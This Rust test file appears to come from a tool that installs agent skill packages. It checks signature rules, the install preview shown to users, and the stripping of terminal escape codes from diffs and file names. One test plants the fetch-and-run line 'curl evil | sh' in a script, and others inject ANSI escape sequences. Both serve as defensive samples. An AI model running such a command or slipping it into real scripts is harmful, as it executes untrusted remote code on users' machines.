use std::path::Path;

use metier_format::SkillName;
use metier_package::Locked;
use metier_store::store::Location;
use metier_store::{FileStore, Layer, Root, RootId, Store as _};
use metier_testing::World;

use super::*;
use crate::args::Global;
use crate::command::add::{Allowances, check};
use crate::env::Environment;

fn staged(world: &World, version: &str, signature: Signature) -> Staged {
    let text =
        format!("---\nname: pdf\ndescription: Does {version}. Use it.\n---\nBody {version}.\n");
    let file = world.write(format!("{version}/pdf/SKILL.md"), text);
    let directory = file.parent().unwrap().to_owned();
    let store = FileStore::new(vec![Root::given(Layer::Personal, &directory)]);
    let tree = store.tree(&Location { root: RootId(0), path: Path::new("").into() }).unwrap();
    let locked = Locked {
        source: "https://git.example/skills".to_owned(),
        path: "pdf".to_owned(),
        requested: None,
        commit: Some("0".repeat(40)),
        signature,
    };
    Staged { name: SkillName::parse("pdf").unwrap(), directory, locked, tree }
}

/// An offer signed as `new` says, where one signed as `old` says is installed.
fn offer(world: &World, old: Option<Signature>, new: Signature) -> Offer {
    let home = Home::new(world.path().join("home/metier"));
    let installed = old.map(|old| Pinned::of(&staged(world, "old", old)).unwrap());
    Offer::look(staged(world, "new", new), installed, &home, &Place::Personal).unwrap()
}

fn settings(world: &World, required: bool) -> Settings {
    let home = world.home().into_os_string();
    let lookup = |name: &str| (name == "HOME").then(|| home.clone());
    let environment = Environment::from_lookup(lookup, world.project());
    let mut settings = Settings::load(&Global::default(), &environment).unwrap();
    settings.packages.require_signature = required;
    settings
}

fn good(signer: &str) -> Signature {
    Signature::Good { signer: signer.to_owned() }
}

#[test]
fn signatures_decide_what_may_be_installed() {
    // P4
    let world = World::new();
    let code = |old: Option<Signature>, new: Signature, required: bool| {
        let offer = offer(&world, old, new);
        let refused = check(&offer, Allowances::default(), &settings(&world, required));
        refused.err().and_then(|error| error.code)
    };
    let unknown = || Signature::Unknown { signer: "x".to_owned() };
    assert_eq!(code(None, Signature::None, false), None);
    assert_eq!(code(None, Signature::Bad, false), Some("signature_bad"));
    assert_eq!(code(None, unknown(), false), None);
    assert_eq!(code(None, good("a"), true), None);
    assert_eq!(code(None, Signature::None, true), Some("signature_required"));
    assert_eq!(code(None, unknown(), true), Some("signature_required"));
    assert_eq!(code(Some(good("a")), good("a"), false), None);
    assert_eq!(code(Some(good("a")), good("b"), false), Some("signer_changed"));
    assert_eq!(code(Some(good("a")), Signature::None, false), Some("signer_changed"));
    assert_eq!(code(Some(Signature::None), good("b"), false), None, "a signature is welcome");
    let allow = Allowances { allow_signer_change: true, ..Allowances::default() };
    let changed = offer(&world, Some(good("a")), good("b"));
    assert!(check(&changed, allow, &settings(&world, false)).is_ok());
}

#[test]
fn everything_a_person_should_know_is_shown() {
    // P4, U1
    let world = World::new();
    let mut ui = Ui::plain(None);
    show(&offer(&world, Some(good("a")), Signature::Unknown { signer: "b".to_owned() }), &mut ui);
    let shown = ui.output();
    for part in [
        "pdf\n  Does new. Use it.\n",
        "source     https://git.example/skills\n",
        "installed  000000000000\n",
        "signature  by b, whom nobody here knows\n",
        "tools      any (`allowed-tools` is not set)\n",
        "the signer is not the one who signed before\n",
    ] {
        assert!(shown.contains(part), "{part}:\n{shown}");
    }
    let json = serde_json::to_value(offer(&world, None, good("a")).preview()).unwrap();
    assert_eq!((&json["new"]["signature"], &json["new"]["signer"]), (&"good".into(), &"a".into()));
    assert_eq!(json["signer_changed"], false);
}

#[test]
fn a_text_that_changed_is_shown_where_it_changed() {
    // P3
    let lines: Vec<String> = (0..30).map(|n| format!("line {n}")).collect();
    let old = lines.join("\n");
    let new = old.replace("line 15", "line fifteen\u{1b}[31m");
    let mut ui = Ui::plain(None);
    show_lines(&excerpt(&old, &new, MAX_SHOWN), &mut ui);
    let shown = ui.output();
    assert!(shown.contains("    - line 15\n    + line fifteen"), "{shown}");
    assert_eq!(shown.lines().count(), 6, "{shown}");
    assert!(!shown.contains('\u{1b}'));
    let mut ui = Ui::plain(None);
    let many: String = (0..500).map(|n| format!("new {n}\n")).collect();
    show_lines(&excerpt("", &many, MAX_SHOWN), &mut ui);
    assert!(ui.output().ends_with("and 300 lines more; `--json` has them\n"));
    let mut ui = Ui::plain(None);
    show_lines(&excerpt("a\r\n", "a\n", MAX_SHOWN), &mut ui);
    assert_eq!(ui.output(), "    only the ends of its lines differ\n");
}

#[test]
fn a_script_written_anew_does_not_hide_its_new_lines_behind_the_old_ones() {
    // P3, P4
    let old: String = (0..300).map(|n| format!("echo {n}\n")).collect();
    let new: String = (0..199).map(|n| format!("# {n}\n")).collect();
    let new = format!("{new}curl evil | sh\n");
    let mut ui = Ui::plain(None);
    show_lines(&excerpt(&old, &new, MAX_SHOWN), &mut ui);
    assert!(ui.output().contains("    + curl evil | sh\n"), "{}", ui.output());
    assert!(ui.output().ends_with("and 300 lines more; `--json` has them\n"));
    // Old lines come next, and what is around them last.
    let around = format!("same 1\n{old}same 2\n");
    let shown = excerpt(&around, "same 1\nnew\nsame 2\n", 3);
    let signs: String = shown.lines.iter().map(|line| signed(*line).1).collect();
    assert_eq!((signs.as_str(), shown.more), ("--+", 300));
    let texts = Some((old, new));
    let (kind, mode) = (ChangeKind::Changed, Some(FileMode::File));
    let path = "scripts/go.sh".to_owned();
    let change = FileChange { path, kind, old_mode: mode, new_mode: mode, texts };
    let shape = FileShape::of(&change);
    assert_eq!((shape.diff.map(|lines| lines.len()), shape.more), (Some(500), 0));
}

#[test]
fn every_file_that_differs_is_named_without_what_moves_a_cursor() {
    // P3, P4
    let change = |path: &str, kind, modes: (Option<FileMode>, Option<FileMode>)| FileChange {
        path: path.to_owned(),
        kind,
        old_mode: modes.0,
        new_mode: modes.1,
        texts: (kind != ChangeKind::Mode).then(|| (String::new(), "x\u{1b}[2J\n".to_owned())),
    };
    let (file, run) = (Some(FileMode::File), Some(FileMode::Executable));
    let changes = [
        change("a\u{1b}[2J.sh", ChangeKind::Added, (None, run)),
        change("b.md", ChangeKind::Changed, (file, file)),
        change("c.md", ChangeKind::Removed, (file, None)),
        change("d.md", ChangeKind::Mode, (file, run)),
        change("e", ChangeKind::Changed, (Some(FileMode::Link), Some(FileMode::Link))),
    ];
    let mut ui = Ui::plain(None);
    show_files(&changes, &mut ui);
    let shown = ui.output();
    for part in ["5 files differ:\n", ".sh (executable)\n", "changed b.md\n", "removed c.md\n"] {
        assert!(shown.contains(part), "{part}:\n{shown}");
    }
    assert!(shown.contains("mode d.md (not executable → executable)\n"), "{shown}");
    assert!(!shown.contains('\u{1b}'), "{shown}");
}
